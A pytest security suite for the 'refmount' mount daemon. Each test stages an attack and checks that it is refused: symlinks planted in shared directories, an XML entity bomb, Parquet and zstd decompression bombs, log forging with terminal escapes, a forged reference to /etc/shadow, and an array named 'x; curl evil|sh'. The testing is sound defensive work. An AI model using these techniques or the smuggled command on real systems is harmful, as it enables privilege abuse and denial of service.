"""A red-team pass over the whole trust boundary (what a remote source, or another user of the machine,
may make a root daemon do), each attack against real mounts and real loopback servers. The attacks
already shown elsewhere (tests/test_hostile*.py, test_address_guard.py, test_local_access.py,
test_one_trail.py, test_catalogs.py) are not repeated here."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

import refmount


def _cmdlines() -> list[bytes]:
    """Every process's command line, as any user of the machine reads it (`ps`)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.append(Path(f"/proc/{pid}/cmdline").read_bytes())
        except OSError:
            pass
    return found


def test_remote_options_given_to_the_python_api_are_not_in_any_command_line(server, tmp_path):
    """Attack: `ps` by any user while a mount made with refmount.mount(..., remote_options={"headers":
    {"Authorization": ...}}) runs. Before: the daemon's command line held the token for its whole life.
    After: it travels in the daemon's environment (its owner's only), and still reaches the server."""
    (server.root / "data.bin").write_bytes(bytes(range(256)) * 4)
    refs = {"version": 1, "refs": {
        ".zgroup": '{"zarr_format": 2}',
        "x/.zarray": json.dumps({"chunks": [1024], "compressor": None, "dtype": "|u1", "fill_value": 0,
                                 "filters": None, "order": "C", "shape": [1024], "zarr_format": 2}),
        "x/0": [server.url_for("data.bin"), 0, 1024]}}
    token = "Bearer sEcReT-7f3a9c"
    (tmp_path / "mnt").mkdir()
    with refmount.mount(refs, tmp_path / "mnt", view="raw",
                        remote_options={"headers": {"Authorization": token}}) as m:
        assert (m.path / "x" / "0").read_bytes() == bytes(range(256)) * 4
        assert not [c for c in _cmdlines() if token.encode() in c]
    assert any(h.get("authorization") == token for h in server.stats["headers"])


NOBODY = 65534


def _owned_by_nobody(path: Path) -> Path:
    """A directory as another user of the machine would have made it first (in /tmp, say)."""
    path.mkdir(parents=True, exist_ok=True)
    os.chown(path, NOBODY, NOBODY)
    return path


def test_a_cache_dir_another_user_made_is_refused_before_anything_in_it_is_touched(mount, server, tmp_path):
    """Attack: another user creates the --cache-dir first (`/tmp/refcache`, before a root unit starts)
    and makes its refmount-cache-v2 a symlink to a directory of the victim's. Before: the root daemon
    swept that directory's `*/*/*.tmp` files (a crashed write's leftovers, it thought) and would have
    evicted, written and served blocks there. After: one line refusing the directory; nothing touched."""
    if os.geteuid() != 0:
        pytest.fail("this test needs root (a daemon of root, a directory of another user)")
    victim = tmp_path / "victim" / "ab" / "cd"
    victim.mkdir(parents=True)
    (victim / "precious.tmp").write_text("the victim's")
    planted = _owned_by_nobody(tmp_path / "refcache")
    (planted / "refmount-cache-v2").symlink_to(tmp_path / "victim")
    (server.root / "d.bin").write_bytes(b"x" * 4096)
    refs = {"version": 1, "refs": {"d": [server.url_for("d.bin"), 0, 4096]}}
    (tmp_path / "refs.json").write_text(json.dumps(refs))
    from tests.conftest import run_refmount

    (tmp_path / "mnt").mkdir()

    def refused_mount():
        done = run_refmount("mount", "--view", "raw", "--cache-dir", planted, tmp_path / "refs.json", tmp_path / "mnt")
        if done.returncode == 0:  # (mounted after all: let it go before failing)
            run_refmount("umount", tmp_path / "mnt")
        return done

    done = refused_mount()
    assert done.returncode != 0 and "--cache-dir" in done.stderr and "symlink" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert (victim / "precious.tmp").read_text() == "the victim's"
    # a real directory of that user's is refused as well; one of the daemon's own serves
    os.unlink(planted / "refmount-cache-v2")
    _owned_by_nobody(planted / "refmount-cache-v2")
    done = refused_mount()
    assert done.returncode != 0 and "belongs to uid 65534" in done.stderr
    mine = tmp_path / "mine"
    m = mount(tmp_path / "refs.json", "--view", "raw", "--cache-dir", str(mine))
    assert (m / "d").read_bytes() == b"x" * 4096
    assert os.stat(mine / "refmount-cache-v2").st_mode & 0o077 == 0


def test_a_scan_store_another_user_can_write_keeps_and_reads_nothing(tmp_path):
    """Attack: plant a scan (forged references for a file's url and version) in a scan store directory
    another user made or can write. Before: taken as the file's references. After: such a directory is
    not used (one warning), so nothing planted there is read."""
    if os.geteuid() != 0:
        pytest.fail("this test needs root (a directory of another user)")
    from refmount.refs.scan.store import ScanStore

    theirs = _owned_by_nobody(tmp_path / "theirs")
    planted = ScanStore(None)
    planted.directory = str(theirs)
    planted.put("https://example.org/x.nc", "etag-1", {"format": "netcdf4", "refs": {"x/0": ["file:///etc/shadow"]}})
    assert ScanStore(str(theirs)).get("https://example.org/x.nc", "etag-1", 1 << 20) is None
    writable = tmp_path / "writable"
    writable.mkdir()
    os.chmod(writable, 0o777)
    assert ScanStore(str(writable)).directory is None
    mine = ScanStore(str(tmp_path / "mine"))
    mine.put("https://example.org/x.nc", "etag-1", {"format": "netcdf4", "refs": {}})
    assert mine.get("https://example.org/x.nc", "etag-1", 1 << 20) == {"format": "netcdf4", "refs": {}}


SIGNED = ("X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=sa%40p.iam&X-Goog-Date=20261130T000000Z"
          "&X-Goog-Expires=900&X-Goog-SignedHeaders=host&X-Goog-Signature=5ec7e75161a7")
SECRETS = ("5ec7e75161a7", "sEsSiOnToKeN", "cLiEnTsEcReT")


def test_signed_urls_of_other_clouds_leave_no_secret_in_the_log_xattrs_or_mount_table(mount, server, tmp_path):
    """Attack: read the mount's log (`--log-file`, syslog), `getfattr` and /proc/mounts for a signed url's
    secret. Before: a GCS V4 signed url's X-Goog-Signature, and `session_token=` / `client_secret=`
    parameters, were written as they are (only AWS's and Azure's names were known), and log lines that
    did not call redact() themselves wrote any url whole. After: every log line passes the one redaction,
    which knows any parameter named like a signature, token, secret, key or password."""
    (server.root / "d.bin").write_bytes(b"y" * 4096)
    good = f"{server.url_for('d.bin')}?{SIGNED}&session_token=sEsSiOnToKeN"
    gone = f"{server.url_for('gone.bin')}?{SIGNED}&client_secret=cLiEnTsEcReT"
    refs = {"version": 1, "refs": {".zgroup": '{"zarr_format": 2}', "d": [good, 0, 4096], "g": [gone, 0, 10]}}
    (tmp_path / "refs.json").write_text(json.dumps(refs))
    m = mount(tmp_path / "refs.json", "--view", "raw", "--log-level", "debug")
    assert (m / "d").read_bytes() == b"y" * 4096
    with pytest.raises(OSError):
        (m / "g").read_bytes()
    seen = [m.log(), Path("/proc/self/mounts").read_text()]
    for key in ("d", "g"):
        for name in os.listxattr(m / key):
            seen.append(os.getxattr(m / key, name).decode(errors="replace"))
    assert "gone.bin" in m.log() and "X-Goog-Signature=***" in "".join(seen)
    assert not [s for s in SECRETS if any(s in text for text in seen)]


def test_a_thredds_catalog_in_utf16_declaring_entities_is_refused_before_they_expand(server, tmp_path):
    """Attack: a THREDDS catalog.xml in UTF-16 (no '<!DOCTYPE' byte string to find) whose entity, declared
    after a 4 MB comment that keeps expat's amplification ratio low, expands 400 MB into the daemon's
    memory (a 16 MiB catalog: about 1.6 GB). Before: parsed, 800 MiB peak for an 8 MB file. After: expat
    itself refuses the DTD at its start, in one line, whatever the encoding."""
    from tests.conftest import run_refmount

    doc = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE catalog [<!ENTITY a "' + "A" * 100_000 + '">]>'
           '<catalog xmlns="http://www.unidata.ucar.edu/namespaces/thredds/InvCatalog/v1.0"><!--'
           + " " * 4_000_000 + "-->" + "&a;" * 4000 + "</catalog>")
    (server.root / "thredds").mkdir()
    (server.root / "thredds" / "catalog.xml").write_bytes(doc.encode("utf-16"))
    done = run_refmount("scan", server.url_for("thredds/catalog.xml"), "-o", tmp_path / "out.json")
    assert done.returncode != 0 and "declares a DTD or entities" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr


from tests import test_hostile_round as _round  # noqa: E402

BLOB, _head = _round.BLOB, _round._head
raw_server = _round.raw_server  # (its fixture of one-connection raw HTTP servers)


def test_a_symlink_planted_at_the_cookie_jars_temporary_name_is_not_followed(mount, raw_server, tmp_path):
    """Attack: in a directory another user can write, plant a symlink at the name the daemon writes its
    --cookie-jar through (`JAR.<pid>.tmp`, the pid is in `ps`), pointing at a file of root's. Before:
    the root daemon truncated that file and wrote the cookies into it. After: the jar is written through
    a new file of a name nobody can guess (O_EXCL), and the victim is untouched."""
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)  # (no sticky bit: the kernel's protected_symlinks does not apply)
    victim = tmp_path / "victim"
    victim.write_text("root's own\n")
    jar = shared / "cookies.txt"
    server = raw_server(BLOB, _head("4096", extra="Set-Cookie: session=s1; Path=/\r\n"))
    refs = tmp_path / "refs.json"
    refs.write_text(json.dumps({"version": 1, "refs": {"a": [server.url]}}))
    m = mount(refs, "--view", "raw", "--read-timeout", "5", "--cookie-jar", str(jar))
    for pid in {m.proc.pid, *map(int, filter(str.isdigit, os.listdir(f"/proc/{m.proc.pid}/task")))}:
        os.symlink(victim, f"{jar}.{pid}.tmp")
    assert (m / "a").read_bytes() == BLOB
    assert victim.read_text() == "root's own\n"
    assert "session\ts1" in jar.read_text()
    assert not [p for p in shared.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]


def test_a_parquet_record_file_that_inflates_past_its_bound_is_eio_never_decoded(mount, server):
    """Attack: a remote Parquet reference set whose refs.0.parq (about 1 kB) holds one 1 MiB dictionary
    value that its rows repeat: read with pyarrow, every row decoded, at the first read of any chunk (the
    daemon's load-time memory limit is lifted by then). 4,000 rows were a 4 GB malloc for a 1,351-byte
    file; here 200 rows (200 MiB, harmless if it is decoded). After: the footer's row count and stored
    size, then the text columns' decoded length (dictionary kept encoded), are checked first: EIO and
    one line; a second record file with more rows than the set's record_size is refused from its footer."""
    import errno

    import pyarrow as pa
    import pyarrow.parquet as pq

    root = server.root / "refs.parq"
    (root / "x").mkdir(parents=True)
    (root / "y").mkdir()
    zarray = {"chunks": [1], "compressor": None, "dtype": "|u1", "fill_value": 0, "filters": None,
              "order": "C", "shape": [400], "zarr_format": 2}
    (root / ".zmetadata").write_text(json.dumps({"record_size": 200, "metadata": {
        ".zgroup": {"zarr_format": 2}, "x/.zarray": zarray, "y/.zarray": zarray}}))
    rows = 200
    bomb = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([b"A" * (1 << 20)]))
    pq.write_table(pa.table({"path": pa.nulls(rows, pa.string()), "offset": pa.array([0] * rows, pa.int64()),
                             "size": pa.array([0] * rows, pa.int64()), "raw": bomb}), root / "x" / "refs.0.parq",
                   compression="zstd")
    assert (root / "x" / "refs.0.parq").stat().st_size < 10_000
    many = 10 * rows
    pq.write_table(pa.table({"path": pa.array([None] * many, pa.string()), "offset": pa.array([0] * many),
                             "size": pa.array([0] * many), "raw": pa.array([b"z"] * many)}),
                   root / "y" / "refs.0.parq")
    m = mount(server.url_for("refs.parq") + "/", "--view", "raw")
    for key in ("x/0", "y/0"):
        with pytest.raises(OSError) as e:
            (m / key).read_bytes()
        assert e.value.errno == errno.EIO
    assert "holds paths and inline values of 209,715,200 bytes, more than the 64 MiB" in m.log()
    assert "holds 2,000 rows, more than the set's record_size 200" in m.log()


def test_a_name_from_a_reference_set_cannot_forge_a_log_line_or_send_terminal_escapes(mount, tmp_path):
    """Attack: an array named 'v\\n<a log line of one's own>\\x1b[2J' whose codec is refused, so that the
    daemon logs its name. Before: the log (file, syslog, terminal) and `refmount inspect` got a second,
    forged line, and the escape cleared the terminal of whoever read it. After: one line, the control
    characters escaped (errors.one_line, in the log's formatter and inspect's lines)."""
    forged = "2026-11-30 01:00:00,000 WARNING all is well"
    name = f"v\n{forged}\x1b[2J"
    zarray = {"chunks": [1], "compressor": {"id": "pickle"}, "dtype": "<f4", "fill_value": 0, "filters": None,
              "order": "C", "shape": [1], "zarr_format": 2}
    m = mount({"version": 1, "refs": {".zgroup": '{"zarr_format": 2}', f"{name}/.zarray": json.dumps(zarray),
                                      f"{name}/0": "base64:AAAAAA=="}})
    log = m.log()
    assert "hiding array v\\n" + forged + "\\x1b[2J: codec 'pickle'" in log, log
    assert not [line for line in log.splitlines() if line.startswith(forged)]
    assert "\x1b" not in log
    from tests.conftest import run_refmount

    shown = run_refmount("inspect", m.refs).stdout  # (`refmount inspect URL` of someone else's set)
    assert "v\\n" + forged in shown and "\x1b" not in shown
    assert not [line for line in shown.splitlines() if line.startswith(forged)]


def test_the_dask_plugins_worker_count_follows_no_symlink_another_user_planted(tmp_path, monkeypatch):
    """Attack: knowing a root Dask cluster's mountpoint, plant /tmp/refmount-dask-0-<sha1 of it>.users as
    a symlink to a root file (this machine runs with fs.protected_symlinks = 0). Before: the worker's
    setup truncated the file and wrote its JSON list of PIDs into it. After: the count lives in a
    directory of the user's own (refused in one line when someone else made it first)."""
    import hashlib
    import tempfile

    from refmount.dask import RefmountPlugin

    if os.geteuid() != 0:
        pytest.fail("this test needs root (a worker of root, a directory of another user)")
    shared = tmp_path / "tmp"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # as /tmp
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    victim = tmp_path / "victim"
    victim.write_text("root's own\n")
    mnt = tmp_path / "shared-mnt"
    old = shared / f"refmount-dask-0-{hashlib.sha1(str(mnt).encode()).hexdigest()[:16]}"
    for suffix in (".users", ".lock"):
        os.symlink(victim, f"{old}{suffix}")
    refs = {"version": 1, "refs": {".zgroup": '{"zarr_format": 2}', "a": "base64:aGVsbG8="}}
    plugin = RefmountPlugin(refs, str(mnt), view="raw")
    try:
        plugin.setup()
        assert (mnt / "a").read_bytes() == b"hello"
        plugin.teardown()
    finally:
        from tests.conftest import force_unmount

        force_unmount(mnt)
    assert victim.read_text() == "root's own\n"
    assert os.stat(shared / "refmount-dask-0").st_mode & 0o077 == 0
    # a directory of that name another user made first is refused, nothing mounted
    other = tmp_path / "tmp2"
    other.mkdir()
    os.chmod(other, 0o1777)
    monkeypatch.setattr(tempfile, "tempdir", str(other))
    _owned_by_nobody(other / "refmount-dask-0")
    with pytest.raises(refmount.RefmountError, match="belongs to uid 65534"):
        RefmountPlugin(refs, str(mnt), view="raw").setup()
    assert not os.path.ismount(mnt)


def test_an_icechunk_manifest_that_inflates_past_max_refs_size_is_refused_before_it_is(server, tmp_path):
    """Attack: a remote Icechunk repository whose manifest is its 39-byte header and 98 kB of zstd
    inflating to 3 GiB (its frame header says so). Before: decompressed whole at mount (3.2 GB peak RSS
    for a --dry-run; only the load's memory net, sized from the machine, above it; none at a --refresh).
    After: --max-refs-size bounds every Icechunk metadata file decompressed, from the frame header
    when it tells, else while decompressing; one line."""
    import glob

    import icechunk
    import numpy as np
    import zarr
    import zstandard

    from tests.conftest import run_refmount

    repo = server.root / "repo"
    session = icechunk.Repository.create(icechunk.local_filesystem_storage(str(repo))).writable_session("main")
    array = zarr.group(store=session.store).create_array("x", shape=(4,), chunks=(2,), dtype="u1")
    array[:] = np.arange(4, dtype="u1")
    session.commit("one")
    for told in (True, False):
        for path in glob.glob(str(repo / "manifests" / "*")):
            data = Path(path).read_bytes()
            bomb = zstandard.ZstdCompressor(level=3, write_content_size=told).compress(b"\0" * (256 << 20))
            Path(path).write_bytes(data[:39] + bomb)
        done = run_refmount("mount", "--dry-run", "--max-refs-size", "64M", server.url + "/repo/", tmp_path / "mnt")
        assert done.returncode != 0 and "exceeds --max-refs-size 64M once decompressed" in done.stderr, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1


def test_a_log_file_in_a_shared_directory_follows_no_planted_symlink(server, tmp_path):
    """Attack: root mounts with `--log-file /tmp/refmount.log`; another user plants that name first, as
    a symlink to root's ~/.bashrc (protected_symlinks is 0 here), and names an array 'x; curl evil|sh'.
    Before: every log line was appended to the file the symlink led to. After: in a directory others
    may write, the log is opened without following a symlink and must be the user's own; one line. In a
    directory of one's own, a symlink is still followed (the user put it there)."""
    from tests.conftest import run_refmount

    if os.geteuid() != 0:
        pytest.fail("this test needs root (a daemon of root, a file of another user)")
    shared = tmp_path / "tmp"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# root's own\n")
    (shared / "refmount.log").symlink_to(bashrc)
    theirs = shared / "theirs.log"
    theirs.write_text("")
    os.chown(theirs, NOBODY, NOBODY)
    refs = tmp_path / "refs.json"
    refs.write_text(json.dumps({"version": 1, "refs": {".zgroup": '{"zarr_format": 2}'}}))
    (tmp_path / "mnt").mkdir()

    def mount_logging_to(log):
        done = run_refmount("mount", "--log-file", log, refs, tmp_path / "mnt")
        if done.returncode == 0:
            run_refmount("umount", tmp_path / "mnt")
        return done

    done = mount_logging_to(shared / "refmount.log")
    assert done.returncode != 0 and "is a symlink in a directory others may write" in done.stderr, done.stderr
    assert bashrc.read_text() == "# root's own\n"
    done = mount_logging_to(theirs)
    assert done.returncode != 0 and "belongs to uid 65534" in done.stderr, done.stderr
    assert theirs.read_text() == ""
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o755)
    (mine / "link.log").symlink_to(tmp_path / "real.log")
    done = mount_logging_to(mine / "link.log")
    assert done.returncode == 0, done.stderr
    assert "mounted" in (tmp_path / "real.log").read_text()



def _problem_as_nobody(path: Path) -> str:
    """What refmount.cache.owned says of `path` to a process of uid nobody."""
    import subprocess
    import sys

    code = "import sys; from refmount.cache import owned; print(owned.problem(sys.argv[1]))"
    done = subprocess.run(["su", "-s", "/bin/sh", "nobody", "-c", f'{sys.executable} -c "{code}" {path}'],
                          capture_output=True, text=True, env={**os.environ, "PYTHONPATH": os.getcwd()}, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def test_an_ordinary_users_cache_dir_under_a_group_shared_project_directory_is_theirs():
    """A cluster user's cache sits under a project directory a group shares (mode 2775) or another account
    owns: an ordinary user's daemon takes it (it can do no more than its user can), a root daemon does not,
    and a directory above that anyone may write (no sticky bit) is refused for both."""
    import shutil
    import tempfile

    from refmount.cache import owned

    top = Path(tempfile.mkdtemp(prefix="refmount-owned-", dir="/tmp"))  # (pytest's tmp_path is root's 0700)
    try:
        _check_project_directory(owned, top)
    finally:
        shutil.rmtree(top)


def _check_project_directory(owned, top: Path) -> None:
    os.chmod(top, 0o755)
    project = top / "project"
    project.mkdir()
    os.chmod(project, 0o2775)
    for who in ("nobody", "root"):
        (project / who).mkdir()
        os.chmod(project / who, 0o700)
    os.chown(project / "nobody", NOBODY, NOBODY)
    assert _problem_as_nobody(project / "nobody") == "None"
    assert "others may write" in owned.problem(str(project / "root"))
    os.chmod(project, 0o777)
    assert "others may write" in _problem_as_nobody(project / "nobody")
